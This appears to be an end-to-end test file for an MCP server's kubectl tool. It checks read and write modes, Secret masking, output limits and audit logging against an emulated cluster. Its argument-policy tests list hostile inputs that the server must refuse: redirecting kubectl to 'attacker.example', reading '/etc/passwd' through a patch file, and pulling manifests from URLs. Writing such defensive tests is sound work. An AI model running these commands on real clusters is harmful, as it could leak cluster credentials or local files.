/**
 * The `kubectl` tool end to end: MCP over real HTTP → server → DescribeClusterUserKubeconfig (emulator) → the real
 * kubectl 1.33 binary (ensureKubectl) → the loopback proxy → the fake API server with client-certificate auth.
 */
import assert from 'node:assert/strict';
import { after, before, beforeEach, describe, test } from 'node:test';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { findResourceType } from '../emulator/kube/resources.ts';
import { CRASHING_POD, CRASHING_POD_LOG, SECRET_PLAINTEXT_PASSWORD } from '../emulator/kube/seed.ts';
import { kubeUserOf } from '../emulator/cs/kubeconfig.ts';
import type { ClusterRecord } from '../emulator/world.ts';
import { callerHeaders, startStack, type Stack } from '../support/stack.ts';

interface KubectlResult {
  isError?: boolean;
  content: Array<{ type: string; text: string }>;
  structuredContent?: {
    cluster_id: string;
    command: string;
    exit_code: number;
    output: string;
    messages: string;
    truncated: boolean;
    omitted_bytes: number;
  };
}

const stacks: Record<'rw' | 'ro' | 'secrets' | 'small', Stack> = {} as never;
const clients: Record<string, Client> = {};
const seen: string[] = [];
/** The kubectl audit lines: the proxy writes them to its server's log. */
const auditLines = () =>
  Object.values(stacks).flatMap((stack) => stack.logs.filter((line) => JSON.parse(line).event === 'kubectl_api_requests'));
let cluster: ClusterRecord;

async function kubectl(which: keyof typeof stacks, command: string, extra: Record<string, unknown> = {}): Promise<KubectlResult> {
  const result = (await clients[which]!.callTool({
    name: 'kubectl',
    arguments: { cluster_id: cluster.cluster_id, command, ...extra },
  })) as unknown as KubectlResult;
  seen.push(JSON.stringify(result));
  return result;
}
const text = (result: KubectlResult) => result.content[0]!.text;
const kube = (which: keyof typeof stacks) => stacks[which].emulator.kube;
const deployments = findResourceType('apps', 'v1', 'deployments')!;
const configmaps = findResourceType('', 'v1', 'configmaps')!;

before(async () => {
  const envs = {
    rw: {},
    ro: { ACCESS_MODE: 'read-only' },
    secrets: { KUBECTL_ALLOW_SECRETS: 'true' },
    small: { KUBECTL_MAX_OUTPUT_BYTES: '1024' },
  };
  for (const [name, env] of Object.entries(envs) as Array<[keyof typeof stacks, Record<string, string>]>) {
    stacks[name] = await startStack({ env });
    cluster = stacks[name].emulator.world.accounts[0]!.clusters[0]!;
    clients[name] = await stacks[name].client(callerHeaders(stacks[name].emulator.world.accounts[0]!.accessKeys[0]!));
  }
});
after(() => Promise.all(Object.values(stacks).map((stack) => stack.close())));
beforeEach(() => {
  for (const stack of Object.values(stacks)) {
    stack.emulator.kube.requests.length = 0;
    stack.emulator.callLog.clear();
  }
});

describe('kubectl: reads', () => {
  test("get pods -A shows every namespace, with the caller's own Kubernetes user upstream", async () => {
    const result = await kubectl('rw', 'kubectl get pods -A');
    assert.equal(result.isError, undefined, text(result));
    assert.match(text(result), /^NAMESPACE\s+NAME\s+READY\s+STATUS/);
    assert.match(text(result), new RegExp(`default\\s+${CRASHING_POD}\\s+0/1\\s+CrashLoopBackOff`));
    assert.match(text(result), /kube-system\s+coredns-/);
    assert.deepEqual(
      { ...result.structuredContent, output: undefined },
      {
        cluster_id: cluster.cluster_id,
        command: 'get pods -A',
        exit_code: 0,
        output: undefined,
        messages: '',
        truncated: false,
        omitted_bytes: 0,
      },
    );
    const caller = stacks.rw.emulator.world.accounts[0]!;
    assert.deepEqual([...new Set(kube('rw').requests.map((r) => r.user))], [kubeUserOf({ account: caller, key: caller.accessKeys[0]! })]);
  });

  test('describe, logs and events of the crash-looping pod', async () => {
    const described = await kubectl('rw', `describe pod ${CRASHING_POD} -n default`);
    assert.equal(described.isError, undefined, text(described));
    assert.match(text(described), /State:\s+Waiting\s+Reason:\s+CrashLoopBackOff/);
    assert.match(text(described), /Restart Count:\s+42/);
    const logs = await kubectl('rw', `logs ${CRASHING_POD} -n default --tail=2`);
    assert.equal(text(logs), CRASHING_POD_LOG.split('\n').slice(-2).join('\n'));
    const events = await kubectl('rw', 'events -n default');
    assert.match(text(events), /Warning\s+BackOff\s+Pod\/billing-worker/);
  });

  test('a warm `get pods` makes exactly one API-server request and no cloud call (kubeconfig, connection and discovery cached)', async () => {
    await kubectl('rw', 'get pods');
    kube('rw').requests.length = 0;
    stacks.rw.emulator.callLog.clear();
    const warm = await kubectl('rw', 'get pods -n default');
    assert.equal(warm.isError, undefined, text(warm));
    assert.deepEqual(
      kube('rw').requests.map((r) => `${r.method} ${r.path.split('?')[0]}`),
      ['GET /api/v1/namespaces/default/pods'],
    );
    assert.equal(stacks.rw.emulator.callLog.records.length, 0);
  });

  test('the kubeconfig is fetched once per identity and cluster, short-lived, with the configured endpoint kind', async () => {
    const fresh = await startStack({ env: { KUBECONFIG_TTL_MINUTES: '30', KUBECONFIG_PRIVATE_IP: 'true' } });
    try {
      const account = fresh.emulator.world.accounts[0]!;
      const client = await fresh.client(callerHeaders(account.accessKeys[2]!)); // the STS key: an identity no other test here uses
      for (const command of ['get nodes', 'get ns', 'version']) {
        const result = (await client.callTool({
          name: 'kubectl',
          arguments: { cluster_id: cluster.cluster_id, command },
        })) as unknown as KubectlResult;
        assert.equal(result.isError, undefined, text(result));
      }
      const fetched = fresh.emulator.callLog.of('DescribeClusterUserKubeconfig');
      assert.equal(fetched.length, 1);
      assert.deepEqual([fetched[0]!.query.TemporaryDurationMinutes, fetched[0]!.query.PrivateIpAddress], ['30', 'true']);
    } finally {
      await fresh.close();
    }
  });

  test("kubectl failures are errors with kubectl's message and exit code", async () => {
    const result = await kubectl('rw', 'get pod no-such-pod -n default');
    assert.equal(result.isError, true);
    assert.match(
      text(result),
      /^Error KubectlFailed: kubectl exited with code 1:\nError from server \(NotFound\): pods "no-such-pod" not found/,
    );
  });
});

describe('kubectl: argument policy (nothing is spawned, nothing is sent)', () => {
  const refused: Array<[string, RegExp, Record<string, unknown>?]> = [
    ['get pods | grep web', /shell metacharacter "\|"/],
    ['get pods --server=https://attacker.example', /this server chooses the cluster and the identity/],
    ['get pods -s https://attacker.example', /this server chooses the cluster/],
    ['config view --raw', /config/],
    ['apply -f https://example.com/x.yaml', /cannot read URLs/],
    ['apply -f -', /without a manifest/],
    ['get pods', /does not read it/, { manifest: 'kind: ConfigMap' }],
    ['foo bar', /plugin named kubectl-foo/],
    ['patch deployment web -n default --patch-file=/etc/passwd', /--patch-file: it reads local files/],
    ['logs web --insecure-skip-tls-verify-backend', /this server chooses the cluster/],
  ];
  for (const [command, message, extra] of refused) {
    test(`refuses "${command}"`, async () => {
      const result = await kubectl('rw', command, extra);
      assert.equal(result.isError, true);
      assert.match(text(result), /^Error KubectlCommandRefused: /);
      assert.match(text(result), message);
      assert.match(text(result), /Nothing was run\./);
      assert.equal(kube('rw').requests.length, 0);
      assert.equal(stacks.rw.emulator.callLog.records.length, 0);
    });
  }

  test('timeout_seconds is bounded by the schema', async () => {
    const result = await kubectl('rw', 'get pods', { timeout_seconds: 600 });
    assert.match(text(result), /^Error InvalidArguments: .*timeout_seconds/);
  });
});

describe('kubectl: modes', () => {
  test('read-only: tools/list offers the read-only kubectl; read-write the full one', async () => {
    const ro = (await clients.ro!.listTools()).tools.find((tool) => tool.name === 'kubectl')!;
    const rw = (await clients.rw!.listTools()).tools.find((tool) => tool.name === 'kubectl')!;
    assert.deepEqual([ro.annotations?.readOnlyHint, ro.annotations?.destructiveHint], [true, false]);
    assert.match(ro.description ?? '', /commands that change the cluster are refused/);
    assert.deepEqual([rw.annotations?.readOnlyHint, rw.annotations?.destructiveHint, rw.annotations?.idempotentHint], [false, true, false]);
  });

  test('read-only: reads work, writes are refused by the argument policy before anything runs', async () => {
    assert.equal((await kubectl('ro', 'get deploy -n default')).isError, undefined);
    assert.ok(kube('ro').requests.some((r) => r.path.startsWith('/apis/apps/v1/namespaces/default/deployments')));
    kube('ro').requests.length = 0;
    for (const command of ['scale deployment web --replicas=5 -n default', 'delete pod web-5d8f7c9b6-h2xq9', 'apply -f -']) {
      const result = await kubectl(
        'ro',
        command,
        command.includes('-f -') ? { manifest: 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\n' } : {},
      );
      assert.equal(result.isError, true, command);
      assert.match(text(result), /^Error KubectlCommandRefused: Refused `\w+`: this server runs kubectl read-only/);
    }
    assert.equal(kube('ro').requests.length, 0);
    assert.equal(kube('ro').store.get(deployments, 'default', 'web')!.spec.replicas, 2);
  });

  test('read-write: apply -f - with a manifest, scale and delete change the cluster', async () => {
    const manifest = 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: feature-flags\n  namespace: default\ndata:\n  checkout: "on"\n';
    const applied = await kubectl('rw', 'apply -f -', { manifest });
    assert.equal(applied.isError, undefined, text(applied));
    assert.equal(text(applied), 'configmap/feature-flags created');
    assert.equal(kube('rw').store.get(configmaps, 'default', 'feature-flags')!.data.checkout, 'on');

    const scaled = await kubectl('rw', 'scale deployment/web --replicas=3 -n default');
    assert.equal(text(scaled), 'deployment.apps/web scaled');
    assert.equal(kube('rw').store.get(deployments, 'default', 'web')!.spec.replicas, 3);

    const deleted = await kubectl('rw', 'delete configmap feature-flags -n default');
    assert.equal(text(deleted), 'configmap "feature-flags" deleted');
    assert.equal(kube('rw').store.get(configmaps, 'default', 'feature-flags'), undefined);
  });
});

describe('kubectl: Secrets', () => {
  test('refused by the proxy by default, with what to do instead', async () => {
    const result = await kubectl('rw', 'get secret db-credentials -n default -o yaml');
    assert.equal(result.isError, true);
    assert.match(
      text(result),
      /Error from server \(Forbidden\): the MCP server's kubectl policy refused this request: Secrets are not readable/,
    );
    assert.match(text(result), /Hint: This server's kubectl policy refused a request/);
    assert.ok(!kube('rw').requests.some((r) => r.path.includes('secrets')));
  });

  test('when allowed, values and the last-applied annotation are masked (YAML, JSON and describe)', async () => {
    const plaintextB64 = Buffer.from(SECRET_PLAINTEXT_PASSWORD).toString('base64');
    for (const command of [
      'get secret db-credentials -n default -o yaml',
      'get secret db-credentials -n default -o json',
      'describe secret db-credentials -n default',
      'get secrets -A -o yaml',
    ]) {
      const result = await kubectl('secrets', command);
      assert.equal(result.isError, undefined, text(result));
      assert.ok(
        kube('secrets').requests.some((r) => r.path.includes('/secrets')),
        "the Secret was read from this stack's API server",
      );
      const all = JSON.stringify(result);
      assert.ok(!all.includes(SECRET_PLAINTEXT_PASSWORD) && !all.includes(plaintextB64), `${command} leaked the Secret`);
      if (!command.startsWith('describe')) {
        assert.match(text(result), /password"?: "?<masked>/);
        assert.match(text(result), /kubectl\.kubernetes\.io\/last-applied-configuration"?: "?<masked>/);
      }
    }
  });
});

describe('kubectl: Secret values never come back through a printer (KUBECTL_ALLOW_SECRETS=true)', () => {
  const secrets = findResourceType('', 'v1', 'secrets')!;
  const plaintextB64 = Buffer.from(SECRET_PLAINTEXT_PASSWORD).toString('base64');
  const releasePlaintext = `helm-release-payload-${'z'.repeat(150_000)}`;
  const release = Buffer.from(releasePlaintext).toString('base64'); // ~200 KB, like a Helm release Secret
  const leaked = (result: KubectlResult) => {
    const all = JSON.stringify(result);
    return [SECRET_PLAINTEXT_PASSWORD, plaintextB64, 'helm-release-payload', release.slice(5_000, 5_100), release.slice(-100)].find((s) =>
      all.includes(s),
    );
  };

  before(() => {
    kube('secrets').store.put(secrets, {
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name: 'sh.helm.release.v1.web.v3', namespace: 'default', labels: { owner: 'helm', name: 'web', version: '3' } },
      type: 'helm.sh/release.v1',
      data: { release },
    });
  });

  const printers: Array<[string, RegExp]> = [
    ['get secret db-credentials -n default -o jsonpath={.data.password}', /^<masked>$/],
    ["get secret db-credentials -n default -o 'go-template={{.data.password|base64decode}}'", /^<masked>$/],
    [
      "get secret db-credentials -n default -o 'go-template={{range $k, $v := .data}}{{$k}}={{$v|base64decode}} {{end}}'",
      /^password=<masked> username=<masked>$/,
    ],
    ['get secret db-credentials -n default -o custom-columns=P:.data.password,U:.data.username', /^P\s+U\n<masked>\s+<masked>$/],
    ['get secret db-credentials -n default -o jsonpath={.metadata.annotations}', /last-applied-configuration/],
    [
      `get secrets -n default -o jsonpath='{range .items[*]}{.metadata.name}:{.data}{"\\n"}{end}'`,
      /db-credentials:\{"password":"<masked>","username":"<masked>"\}/,
    ],
    ['get secret sh.helm.release.v1.web.v3 -n default -o yaml', /release: <masked>/],
    ['get secret sh.helm.release.v1.web.v3 -n default -o json', /"release": "<masked>"/],
    ['get secrets -n default -o yaml', /kind: List/],
    ['get secret sh.helm.release.v1.web.v3 -n default -o jsonpath={.data.release}', /^<masked>$/],
    ['describe secret sh.helm.release.v1.web.v3 -n default', /Type:\s+helm\.sh\/release\.v1/],
    ['get secrets -n default --show-labels', /sh\.helm\.release\.v1\.web\.v3\s+helm\.sh\/release\.v1\s+1/],
  ];
  for (const [command, shows] of printers) {
    test(`${command}`, async () => {
      const result = await kubectl('secrets', command);
      assert.equal(result.isError, undefined, text(result));
      assert.equal(leaked(result), undefined, `leaked through ${command}:\n${text(result).slice(0, 2000)}`);
      assert.match(text(result), shows);
      assert.ok(
        kube('secrets').requests.some((r) => r.path.includes('/secrets')),
        "the Secret was read from this stack's API server",
      );
    });
  }

  test('writes still work: apply of a changed Secret and a label keep real values in the cluster, never the placeholder', async () => {
    const manifest = 'apiVersion: v1\nkind: Secret\nmetadata:\n  name: api-key\n  namespace: default\nstringData:\n  key: first-value\n';
    assert.equal(text(await kubectl('secrets', 'apply -f -', { manifest })), 'secret/api-key created');
    const changed = await kubectl('secrets', 'apply -f -', { manifest: manifest.replace('first-value', 'second-value') });
    assert.equal(changed.isError, undefined, text(changed));
    assert.equal(text(changed), 'secret/api-key configured');
    const labelled = await kubectl('secrets', 'label secret api-key -n default tier=backend');
    assert.equal(text(labelled), 'secret/api-key labeled');
    const stored = kube('secrets').store.get(secrets, 'default', 'api-key')!;
    assert.equal(Buffer.from(stored.data.key, 'base64').toString(), 'second-value');
    assert.equal(stored.metadata.labels.tier, 'backend');
    assert.match(stored.metadata.annotations['kubectl.kubernetes.io/last-applied-configuration'], /second-value/);
    const shown = await kubectl('secrets', 'get secret api-key -n default -o jsonpath={.data.key}');
    assert.equal(text(shown), '<masked>');
  });
});

describe('kubectl: bounds and deadline', () => {
  test('a large output is cut with a marker that says how much is missing and how to narrow', async () => {
    const result = await kubectl('small', 'get pods -A -o yaml');
    assert.equal(result.isError, undefined, text(result));
    assert.match(text(result), /\n\[truncated: \d+ more bytes not shown; Narrow the query: -l <label-selector>, --field-selector/);
    assert.equal(result.structuredContent!.truncated, true);
    assert.ok(kube('small').requests.some((r) => r.path.startsWith('/api/v1/pods')));
    assert.ok(result.structuredContent!.omitted_bytes > 1000);
    assert.ok(Buffer.byteLength(result.structuredContent!.output) <= 1024);
  });

  test('a hung API server: the call is stopped at its deadline with a clear error', async () => {
    await kubectl('rw', 'get pods -n kube-system'); // discovery warm: only the list hangs
    kube('rw').setHang('/api/v1/namespaces/kube-system/pods');
    try {
      const result = await kubectl('rw', 'get pods -n kube-system', { timeout_seconds: 2 });
      assert.equal(result.isError, true);
      assert.match(text(result), /^Error KubectlTimeout: kubectl did not finish within 2 s and was stopped\./);
      assert.match(text(result), /Hint: The cluster's API server may be slow or unreachable\. .*timeout_seconds \(at most 120\)/);
    } finally {
      kube('rw').clearHang();
    }
    const after = await kubectl('rw', 'get pods -n kube-system');
    assert.equal(after.isError, undefined, text(after));
  });
});

describe('kubectl: nothing secret is ever shown or logged', () => {
  test('no response, request log or audit line holds a kubeconfig, key, certificate, proxy token or AccessKey secret', () => {
    const audit = auditLines();
    const everything = [...seen, ...Object.values(stacks).flatMap((stack) => stack.logs)].join('\n');
    for (const marker of [
      'PRIVATE KEY',
      'BEGIN CERTIFICATE',
      'client-key-data',
      'client-certificate-data',
      'certificate-authority-data',
      'kind: Config',
      'Bearer ',
    ]) {
      assert.ok(!everything.includes(marker), `found "${marker}"`);
    }
    for (const stack of Object.values(stacks)) {
      for (const key of stack.emulator.world.accounts.flatMap((account) => account.accessKeys)) {
        assert.ok(!everything.includes(key.accessKeySecret), 'an AccessKey secret leaked');
      }
    }
    assert.ok(audit.length > 10, 'the proxy audited the calls');
    const fields = [
      'time',
      'level',
      'event',
      'cluster',
      'identity',
      'requests',
      'refused',
      'unfinished',
      'counts',
      'statuses',
      'first',
      'refusals',
      'refusalsLeftOut',
      'slowestMs',
    ];
    for (const line of audit)
      assert.deepEqual(
        Object.keys(JSON.parse(line)).filter((k) => !fields.includes(k)),
        [],
      );
  });
});
